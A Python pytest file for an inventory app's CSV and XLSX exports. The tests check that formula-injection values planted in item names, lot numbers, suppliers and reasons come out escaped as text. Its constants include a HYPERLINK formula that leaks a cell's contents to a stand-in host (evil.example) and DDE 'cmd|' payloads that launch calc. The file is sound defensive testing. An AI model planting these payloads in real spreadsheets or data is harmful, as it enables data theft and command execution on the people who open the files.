"""Every export, as CSV and as XLSX: formulas planted in lot numbers, reasons, references, item names and imports
come out as inert text, and the files read back as the pages show them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from stockpile import audit
from stockpile.db import local_today
from stockpile.inventory import services
from stockpile.inventory.models import QualityStatus
from stockpile.requests import services as request_services
from stockpile.web.sheets import csv_chunks, safe_cell, xlsx_chunks
from tests import factories
from tests.requests.helpers import submitted

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"

# Written by hand from OWASP's CSV-injection guidance: what each value must become in a cell.
SAFE_CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    (AT_SUM, "'" + AT_SUM),
    (MINUS, "'" + MINUS),
    (TAB, "'\t=1+1"),
    (CR, "'\r=1+1"),
    ("L-2291", "L-2291"),
    ("a=b", "a=b"),
    (" =1", " =1"),
    ("'already quoted", "'already quoted"),
    ("", ""),
    (-3, -3),
    (12.5, 12.5),
    (None, None),
]


@pytest.mark.parametrize(("value", "expected"), SAFE_CELLS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(value, expected) -> None:
    assert safe_cell(value) == expected


def test_csv_quotes_every_cell_so_a_separator_cannot_start_a_new_cell() -> None:
    text = "".join(csv_chunks(["a", "b"], [["x;=1+1", 7], [CMD, None]]))
    assert text == '"a","b"\r\n"x;=1+1","7"\r\n"\'+cmd|\' /C calc\'!A0",""\r\n'


def test_xlsx_cells_are_text_not_formulas_and_times_are_utc() -> None:
    at = dt.datetime(2026, 12, 3, 9, 30, tzinfo=dt.UTC)
    book = load_workbook(io.BytesIO(b"".join(xlsx_chunks("t", ["a", "b", "c"], [[HYPERLINK, at, "bell\x07"]]))))
    sheet = book.worksheets[0]
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells == [[("a", "s"), ("b", "s"), ("c", "s")],
                     [("'" + HYPERLINK, "s"), (dt.datetime(2026, 12, 3, 9, 30), "d"), ("bell\ufffd", "s")]]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def read_xlsx(response) -> list[list[object]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row), "a formula cell in an export"
    return [[_as_csv_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _as_csv_text(value: object) -> object:
    """An XLSX cell as the CSV would show it, where the two agree (text and numbers)."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return str(value)
    return value


READERS = {"csv": read_csv, "xlsx": read_xlsx}


@pytest.fixture
def planted(db, users):
    """Formulas in every user-typed text an export shows: item name, lot number, supplier, reason, reference."""
    item = factories.item(name=HYPERLINK)
    warehouse = factories.warehouse()
    movement = services.receive(
        item_id=item.id, lot_number=CMD, supplier=MINUS, expiry_date=local_today() + dt.timedelta(days=20),
        warehouse_id=warehouse.id, quantity=40, reason=AT_SUM, reference="@" + "A1", user_id=users["logistics"].id,
        quality_status=QualityStatus.RELEASED)
    return item, warehouse, movement


def cells_of(rows) -> set[object]:
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_stock_export_escapes_item_names(as_role, planted, fmt) -> None:
    item, _warehouse, _movement = planted
    rows = READERS[fmt](as_role("continuity").get(f"/inventory/stock.{fmt}"))
    assert rows[0] == ["item_code", "item_name", "unit", "on_hand", "reserved", "usable", "unusable", "free",
                       "first_expiry", "days_until_first_expiry"]
    [mine] = [row for row in rows if row[0] == item.code]
    assert mine[1] == "'" + HYPERLINK
    assert mine[3:8] == ["40", "0", "40", "0", "40"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ledger_export_escapes_lot_numbers_reasons_and_references(as_role, planted, fmt) -> None:
    item, warehouse, movement = planted
    rows = READERS[fmt](as_role("logistics").get(f"/inventory/ledger.{fmt}?item_id={item.id}"))
    assert rows[0][:5] == ["id", "created_at_utc", "type", "item_code", "lot_number"]
    [line] = rows[1:]
    assert line[0] == str(movement.id)
    assert line[2:] == ["receipt", item.code, "'" + CMD, "", warehouse.code, "40", "'" + AT_SUM, "'@A1", ""]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_expiring_export_escapes_lot_numbers_and_suppliers(as_role, planted, fmt) -> None:
    item, warehouse, _movement = planted
    rows = READERS[fmt](as_role("admin").get(f"/inventory/expiring.{fmt}?days=30"))
    assert rows[0] == ["item_code", "item_name", "lot_number", "supplier", "warehouse", "quality_status",
                       "expiry_date", "days_until_expiry", "on_hand", "reserved", "free"]
    [mine] = [row for row in rows if row[0] == item.code]
    expiry = local_today() + dt.timedelta(days=20)
    assert mine[1:6] == ["'" + HYPERLINK, "'" + CMD, "'" + MINUS, warehouse.code, "released"]
    assert mine[6] == (expiry.isoformat() if fmt == "csv" else dt.datetime.combine(expiry, dt.time()))
    assert mine[7:] == ["20", "40", "0", "40"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_request_overview_export_escapes_item_names(as_role, planted, users, fmt) -> None:
    item, _warehouse, _movement = planted
    request = submitted(users["region"], factories.process(), [(item, 5)])
    request_services.reject(request, users["continuity"], "no", for_scarcity=False)
    rows = READERS[fmt](as_role("region").get(f"/review/overview.{fmt}?by=item"))
    assert rows[0] == ["item", "name", "requested", "approved", "issued", "received", "approved_share",
                       "received_share"]
    [mine] = [row for row in rows if row[0] == item.code]
    assert mine[1] == "'" + HYPERLINK
    assert mine[2:6] == ["5", "0", "0", "0"]
    assert (float(mine[6]), mine[7]) == (0.0, "")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_export_escapes_every_text_column(as_role, db, fmt) -> None:
    audit.record(None, TAB, None, note=CR)
    audit.record(None, "-" + "x", None)
    db.flush()
    rows = READERS[fmt](as_role("admin").get(f"/admin/audit/export.{fmt}"))
    assert rows[0] == ["id", "at_utc", "actor", "action", "object_type", "object_id", "details"]
    assert {row[3] for row in rows[1:3]} == {"'\t=1+1", "'-x"}
    details = {row[3]: row[6] for row in rows[1:3]}
    assert details["'\t=1+1"] == '{"note": "\\r=1+1"}'


def test_no_export_cell_starts_a_formula(as_role, planted, users) -> None:
    """Over every export and both formats at once: not one cell a spreadsheet would evaluate."""
    item, _warehouse, _movement = planted
    request = submitted(users["region"], factories.process(), [(item, 5)])
    request_services.reject(request, users["continuity"], CMD, for_scarcity=False)
    admin = as_role("admin")
    for url in ("/inventory/stock", "/inventory/ledger", "/inventory/expiring?days=90&", "/review/overview",
                "/admin/audit/export"):
        for fmt in ("csv", "xlsx"):
            path, _sep, query = url.partition("?")
            rows = READERS[fmt](admin.get(f"{path}.{fmt}?{query}"))
            bad = [c for c in cells_of(rows) if isinstance(c, str) and c.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert bad == [], f"{url} {fmt}"


def test_exports_are_not_cached_and_are_attachments(as_role, planted) -> None:
    response = as_role("logistics").get("/inventory/ledger.xlsx")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == "attachment; filename=ledger.xlsx"


def test_region_users_get_no_stock_files(as_role) -> None:
    region = as_role("region")
    for path in ("/inventory/stock.xlsx", "/inventory/ledger.xlsx", "/inventory/expiring.csv",
                 "/admin/audit/export.xlsx"):
        assert region.get(path).status_code == 403, path


def test_an_xlsx_too_long_to_build_is_refused_before_any_work_and_the_csv_still_comes(app, as_role, planted,
                                                                                      monkeypatch) -> None:
    item, warehouse, _movement = planted
    services.receive(item_id=item.id, lot_number="L-2", supplier="Acme", expiry_date=local_today() +
                     dt.timedelta(days=90), warehouse_id=warehouse.id, quantity=1, reason="r", user_id=None)
    monkeypatch.setitem(app.config, "XLSX_EXPORT_MAX_ROWS", 1)
    client = as_role("logistics")
    refused = client.get(f"/inventory/ledger.xlsx?item_id={item.id}")
    assert refused.status_code == 422
    assert "2 rows are more than an Excel file can be made of here (at most 1)" in refused.get_data(as_text=True)
    assert len(read_csv(client.get(f"/inventory/ledger.csv?item_id={item.id}"))) == 3
    assert as_role("admin").get("/admin/audit/export.xlsx").status_code == 422
